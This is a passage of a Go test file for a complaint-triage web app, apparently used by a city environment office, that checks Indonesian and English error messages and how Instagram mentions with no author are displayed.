	c := f.client(t, "dlh")
	for _, tc := range []struct {
		path string
		form url.Values
		code int
		want string
	}{
		{"/item/x:101/close", url.Values{"version": {"1"}}, 400, "<b>Isian belum benar.</b>"},
		{"/item/x:101/close", url.Values{"version": {"1"}}, 400, "aduan berstatus Terdisposisi tidak dapat diubah menjadi Ditutup"},
		{"/item/x:101/hold", url.Values{"version": {"1"}}, 400, "isi alasan penundaan (apa yang harus dikirim warga)"},
		{"/item/x:101/assign", url.Values{"version": {"7"}, "opd": {"perhubungan"}, "reason": {"salah"}}, 409, "aduan x:101 baru saja diubah orang lain (kini versi 1)"},
		{"/antrian/lingkungan_hidup/massal", url.Values{"id": {"x:101", "x:102"}, "action": {"hold"}}, 400, "isi alasan penundaan (apa yang harus dikirim warga)"},
		{"/antrian/lingkungan_hidup/massal", url.Values{"id": {"x:101", "x:102"}, "action": {"close"}}, 400, "0 dari 2 selesai; belum: x:101 (aduan berstatus Terdisposisi tidak dapat diubah menjadi Ditutup); x:102"},
		// Last: ?lang=en is remembered in a cookie.
		{"/item/x:101/close?lang=en", url.Values{"version": {"1"}}, 400, "an item in status Assigned cannot move to Closed"},
	} {
		code, body := post(t, c, f.srv.URL+tc.path, tc.form)
		if code != tc.code || !strings.Contains(body, tc.want) {
			t.Errorf("POST %s: %d, want %d with %q", tc.path, code, tc.code, tc.want)
		}
	}
	if code, body := get(t, c, f.srv.URL+"/api/v1/items?limit=0"); code != 400 || !strings.Contains(body, `"message":"limit must be 1..1000"`) {
		t.Errorf("API error: %d %s", code, body)
	}
}

// An Instagram mention comes with no author (the Graph API gives none for
// a mentioned comment): the pages say so instead of an empty name or a
// lone "@", and the item page says how the post reached the account.
func TestMentionWithoutAuthor(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	created := f.now.Add(-time.Hour)
	clocks, err := workflow.NewClocks(f.cfg, "")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.st.Ingest(ctx, store.Ingest{
		Post: tanggap.Post{Platform: tanggap.PlatformInstagram, ID: "17894227972186120", Account: "dinaslh_kotabekasi",
			Text: "@dinaslh_kotabekasi sampah TPS Bintara numpuk", CreatedAt: created, CapturedAt: created,
			ThreadID: "17918195224117851", Interaction: tanggap.InteractionMention},
		Kind: tanggap.KindComplaint, OPD: "lingkungan_hidup", Status: tanggap.StatusAssigned, Confidence: 0.8, Queued: true,
		Deadlines: clocks.Deadlines(created, tanggap.KindComplaint, "lingkungan_hidup", false),
	}); err != nil {
		t.Fatal(err)
	}
	c := f.client(t, "dlh")
	_, body := get(t, c, f.srv.URL+"/item/instagram:17894227972186120")
	hasAll(t, "item page", body, []string{"Pelapor: <i>tidak diberikan platform</i> · menyebut akun ini di unggahan akun lain"}, []string{"Pelapor: <b></b>"})
	_, body = get(t, c, f.srv.URL+"/item/x:102")
	hasAll(t, "a post with its author", body, []string{"Pelapor: <b>&lt;b&gt;warga&lt;/b&gt;</b>"}, []string{"tidak diberikan platform", "menyebut akun ini"})
	_, body = get(t, c, f.srv.URL+"/antrian/lingkungan_hidup")
	hasAll(t, "queue page", body, []string{"<td>—</td>"}, []string{"<td></td>"})
	_, body = get(t, c, f.srv.URL+"/item/instagram:17894227972186120?lang=en")
	hasAll(t, "item page (en)", body, []string{"Reporter: <i>not given by the platform</i> · mentioned this account on another account&#39;s post"}, nil)
}
